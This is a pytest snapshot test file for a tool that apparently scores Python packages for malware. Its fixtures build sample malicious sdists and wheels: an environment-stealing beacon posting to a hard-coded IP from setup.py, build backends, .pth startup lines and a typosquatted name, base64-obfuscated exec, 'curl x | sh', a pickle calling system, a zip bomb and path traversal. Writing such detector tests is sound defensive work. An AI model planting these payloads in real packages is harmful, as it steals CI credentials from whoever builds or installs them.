"""Golden rows: everything that boojum says of a dozen kinds of artifact, held against files beside this test.

Regenerate with

    .venv/bin/python -m pytest tests/features/test_row_snapshots.py --update-snapshots

only where a change is meant to change what boojum says, together with the version of the feature group that it
changes (`CodeGroup.version` and its like), because a store and a model carry that version. Never regenerate them to
make a refactoring, a rename or an optimisation pass: then the change is wrong, not the snapshot.
"""

import bz2
import gzip
import io
import json
import tarfile
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from features.contract import Artifact
from features.extract import extract_row
from features.limits import Limits
from features.schema import feature_columns, fingerprint, rows_table

FOLDER = Path(__file__).parent / "snapshots"
COMMAND = ".venv/bin/python -m pytest tests/features/test_row_snapshots.py --update-snapshots"
MISMATCH = f"""{{name}}: the row is not the one in tests/features/snapshots/{{name}}.json.
A rename, a refactoring or an optimisation must leave every row as it is: mend the code, not the snapshot.
Only where a change is meant to change values, and bumps the version of its feature group, regenerate them with
    {COMMAND}
and read the difference that git shows before you commit it."""

SETUP = "from setuptools import setup\n\nsetup(name='demo', version='1.0', packages=['demo'])\n"
HELPER = """import subprocess


def run(command):
    \"\"\"Run a command and return what it prints.\"\"\"
    return subprocess.run(command, shell=True, capture_output=True, check=False).stdout
"""
BEACON = """import os
import urllib.request

if os.environ.get("CI"):
    data = str(dict(os.environ)).encode()
    urllib.request.urlopen("http://198.51.100.7/collect", data=data)
"""
PRINT = "print(1)\n"
PYTHON2 = "import urllib2\nexec urllib2.urlopen('http://example.invalid/x').read()\nprint 'done'\n"
MIT = (
    "MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy of this software\n"
    "and associated documentation files, to deal in the Software without restriction.\n"
)
PYPROJECT = """[build-system]
requires = ["setuptools"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "demo"
version = "1.0"
description = "A demonstration"
dependencies = ["requests>=2", "click; python_version < '3.9'"]
"""


def encoded(text: str) -> str:
    return b64encode(text.encode()).decode()


def tar_of(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return made.getvalue()


def honest_sdist(make_sdist, tmp_path, natives):
    files = {"setup.py": SETUP, "demo/__init__.py": "from demo.core import run\n", "demo/core.py": HELPER}
    return make_sdist({**files, "README.md": "# Demo\n\nCounts sheep.\n", "LICENSE": MIT, "tests/test_core.py": PRINT})


def built_sdist(make_sdist, tmp_path, natives):
    backend = "from setuptools.build_meta import *\n" + BEACON
    return make_sdist({"pyproject.toml": PYPROJECT, "_build/backend.py": backend, "src/demo/__init__.py": PRINT})


def thieving_sdist(make_sdist, tmp_path, natives):
    return make_sdist({"setup.py": BEACON + SETUP, "demo/__init__.py": ""}, name="reqeusts")


def obfuscated_sdist(make_sdist, tmp_path, natives):
    inner = encoded(f"import base64\nexec(base64.b64decode('{encoded(BEACON)}'))\n")
    letters = "+".join(f"chr({ord(letter)})" for letter in "os.system")
    hidden = f"import base64\nexec(base64.b64decode('{inner}'))\n__import__({letters})\nx = 1{' ' * 200};eval('2')\n"
    return make_sdist({"setup.py": hidden + SETUP, "demo/__init__.py": "_ = lambda __: __import__('zlib')\n"})


def python2_zip(make_sdist, tmp_path, natives):
    return make_sdist({"setup.py": PYTHON2, "demo/__init__.py": "print 'x'\n", "do.sh": "#!/bin/sh\ncurl x | sh\n"},
                      compression="zip")  # fmt: skip


def honest_wheel(make_wheel, tmp_path, natives):
    return make_wheel({"demo/__init__.py": HELPER, "demo/py.typed": "", "demo/data.json": '{"a": [1, 2, 3]}'})


def native_wheel(make_wheel, tmp_path, natives):
    elf, pe, macho = natives
    files = {
        "demo/__init__.py": "from demo import _speed\n",
        "demo/_speed.cpython-311-x86_64-linux-gnu.so": elf(
            imports=("execve", "connect", "PyList_New"), exports=("PyInit__speed",), libraries=("libc.so.6",),
            data=b"http://198.51.100.7/x\0/bin/sh -c\0powershell -enc\0",
        ),
        "demo/_speed.pyd": pe(imports=(("KERNEL32.dll", ("VirtualAllocEx", "WriteProcessMemory")),), overlay=b"z" * 99),
        "demo/_speed.abi3.so": macho(imports=("dlopen",), exports=("PyInit__speed",), libraries=("libz.dylib",)),
        "demo/readme.txt": b"\x7fELF" + bytes(200),
    }  # fmt: skip
    return make_wheel(files)


def start_up_wheel(make_wheel, tmp_path, natives):
    line = f"import base64; exec(base64.b64decode('{encoded(BEACON)}'))\n./elsewhere\n"
    return make_wheel({"demo.pth": line, "demo.start": "demo.boot:main\n", "demo/__init__.py": "", "demo/boot.py": HELPER,
                       "sitecustomize.py": PRINT})  # fmt: skip


def pickled_wheel(make_wheel, tmp_path, natives):
    call = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
    code = b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(40)
    files = {"demo/__init__.py": "import pickle\n\n\ndef load(f):\n    return pickle.load(f)\n"}
    return make_wheel({**files, "demo/model.pkl": call, "demo/__pycache__/gone.cpython-311.pyc": code})


def entry_point_wheel(make_wheel, tmp_path, natives):
    points = "[console_scripts]\ndemo = demo.cli:main\n[distutils.commands]\nx = demo.cli:main\n"
    command = "import socket\n\n\ndef main():\n    socket.create_connection(('198.51.100.7', 443)).send(b'x')\n"
    wide = "import os\nos.system('true')\n".encode("utf-16")
    return make_wheel({"demo/__init__.py": "", "demo/cli.py": command, "demo-1.0.dist-info/entry_points.txt": points,
                       "demo/wide.py": wide, "demo/homoglyph_\u0430.py": "v\u0430lue = 1\n"})  # fmt: skip


def egg(make_wheel, tmp_path, natives):
    path = tmp_path / "demo-1.0-py3.11.egg"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (("EGG-INFO/PKG-INFO", "Name: demo\nVersion: 1.0\n"), ("EGG-INFO/not-zip-safe", "\n"),
                           ("demo/__init__.py", HELPER), ("EGG-INFO/scripts/demo", "#!/usr/bin/python\n" + BEACON)):  # fmt: skip
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), text)
    return path


def bomb(make_sdist, tmp_path, natives):
    return make_sdist({"setup.py": SETUP, "demo/zeros.bin": bytes(40 * 2**20), "demo/after.py": BEACON})


def cut_sdist(make_sdist, tmp_path, natives):
    path = make_sdist({"setup.py": SETUP, "demo/a.py": BEACON, "demo/noise.txt": "\n".join(map(str, range(9_000)))})
    path.write_bytes(path.read_bytes()[:-2_000])
    return path


def nested_sdist(make_sdist, tmp_path, natives):
    inner = gzip.compress(tar_of({"inner/run.py": BEACON.encode(), "inner/../up.py": b"x = 1\n"}), mtime=0)
    return make_sdist({"setup.py": SETUP, "vendor/inner.tar.gz": inner, "vendor/one.py.bz2": bz2.compress(b"x = 1\n")})


def two_directories_wheel(make_wheel, tmp_path, natives):
    path = make_wheel({"demo/__init__.py": PRINT, "demo/b.py": BEACON})
    data = path.read_bytes()
    path.write_bytes(b"#!/bin/sh\nexit 0\n" + data + data[: data.find(b"PK\x01\x02")] + b"trailing")
    return path


def no_archive(make_wheel, tmp_path, natives):
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(b"<html>404</html>")
    return path


WHEELS = (
    honest_wheel, native_wheel, start_up_wheel, pickled_wheel, entry_point_wheel, egg, two_directories_wheel, no_archive,
)  # fmt: skip
SDISTS = (
    honest_sdist, built_sdist, thieving_sdist, obfuscated_sdist, python2_zip, bomb, cut_sdist, nested_sdist,
)  # fmt: skip


def as_json(value: Any) -> Any:
    return value.hex() if isinstance(value, bytes) else value.isoformat()


def snapshot(path: Path) -> str:
    """Return a row as JSON: identity and lists whole, features but those that are 0 or false."""
    row = extract_row(path, path.name, Limits())
    artifact = Artifact(f"packages/{path.name}", path.name, path.stat().st_size, "demo", "1.0", row.kind, "")
    said = rows_table([(artifact, row)]).to_pylist()[0]
    features = {column.name: said.pop(column.name) for column in feature_columns()}
    told = {name: value for name, value in features.items() if value is None or value}
    if len(told) == len(features) and not any(told.values()):
        told = {"every feature": None}
    whole = {"row": said, "features": told, "zlib": zlib.ZLIB_RUNTIME_VERSION}
    return json.dumps(whole, indent=1, default=as_json, sort_keys=True) + "\n"


def held(name: str, said: str, *, update: bool) -> None:
    path = FOLDER / f"{name}.json"
    if update:
        path.write_text(said, encoding="utf-8")
    there = path.read_text(encoding="utf-8") if path.exists() else ""
    # Two long texts would bury what to do under their difference; git shows that better.
    if said != there:
        before, after = (json.loads(text or "{}") for text in (there, said))
        if before and before["zlib"] != after["zlib"]:
            pytest.skip(f"this Python compresses by zlib {after['zlib']}: its artifacts are not those of the snapshots")
        changed = [
            f"{part}.{key}: {before.get(part, {}).get(key)!r} -> {after.get(part, {}).get(key)!r}"[:200]
            for part in ("row", "features")
            for key in sorted({*before.get(part, {}), *after.get(part, {})})
            if before.get(part, {}).get(key, ...) != after.get(part, {}).get(key, ...)
        ]
        pytest.fail("\n".join([MISMATCH.format(name=name), *changed[:20]]), pytrace=False)


@pytest.fixture
def update(request: pytest.FixtureRequest) -> bool:
    return bool(request.config.getoption("--update-snapshots"))


@pytest.mark.parametrize("build", SDISTS, ids=lambda build: build.__name__)
def test_an_sdist_has_its_golden_row(build: Callable[..., Path], make_sdist, tmp_path, update):
    held(build.__name__, snapshot(build(make_sdist, tmp_path, ())), update=update)


@pytest.mark.parametrize("build", WHEELS, ids=lambda build: build.__name__)
def test_a_built_distribution_has_its_golden_row(
    build: Callable[..., Path], make_wheel, tmp_path, update, write_elf, write_pe, write_macho
):
    held(build.__name__, snapshot(build(make_wheel, tmp_path, (write_elf, write_pe, write_macho))), update=update)


def test_the_schema_is_the_one_that_the_shipped_model_knows(update):
    said = json.dumps({"fingerprint": fingerprint(), "columns": [f"{c.name} {c.dtype}" for c in feature_columns()]},
                      indent=1)  # fmt: skip
    path = FOLDER / "schema.json"
    if update:
        path.write_text(said + "\n", encoding="utf-8")
    if path.read_text(encoding="utf-8") != said + "\n":
        pytest.fail(MISMATCH.format(name="schema"), pytrace=False)


def test_every_snapshot_has_its_artifact():
    assert {build.__name__ for build in (*SDISTS, *WHEELS)} | {"schema"} == {p.stem for p in FOLDER.glob("*.json")}
